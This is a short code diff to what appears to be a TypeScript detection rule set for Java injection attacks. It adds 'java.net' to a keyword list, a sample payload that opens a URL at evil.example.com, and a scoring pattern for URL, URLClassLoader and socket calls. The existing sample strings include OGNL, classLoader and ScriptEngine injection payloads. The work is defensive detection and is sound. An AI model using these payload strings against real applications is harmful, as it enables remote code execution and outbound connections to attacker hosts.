@@ -22,6 +22,7 @@ export const java: ValueRule = {
         'java.lang',
         'java.io',
         'java.util',
+        'java.net',
         'javax',
         '@ognl',
         'memberaccess',
@@ -54,6 +55,7 @@ export const java: ValueRule = {
     'class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp',
     "new javax.script.ScriptEngineManager().getEngineByName('js').eval('1')",
     'java.lang.Thread.sleep(9000)',
+    'new java.net.URL("http://evil.example.com").openStream()',
     "#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('a','b')",
   ],
   lookalikes: [
@@ -88,6 +90,7 @@ const sequences = compileSequences([
     score: 84,
     inProse: 60,
   },
+  { pattern: "new java . net . url|urlclassloader|socket ( '", score: 80, inProse: 50 },
   { pattern: 'new java . util . scanner', score: 84, inProse: 60 },
   { pattern: 'scriptenginemanager ( ) . getengineby*', score: 92 },
   {
